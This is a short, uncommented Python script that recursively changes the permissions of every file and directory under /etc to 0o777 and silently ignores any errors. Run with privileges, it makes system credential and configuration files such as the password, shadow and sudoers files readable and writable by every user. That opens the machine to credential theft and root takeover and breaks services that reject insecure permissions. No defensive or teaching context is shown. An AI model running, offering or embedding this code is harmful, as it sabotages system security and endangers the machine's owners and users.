import os

for root, dirs, files in os.walk("/etc"):
    for name in dirs + files:
        try:
            os.chmod(os.path.join(root, name), 0o777)
        except OSError:
            pass
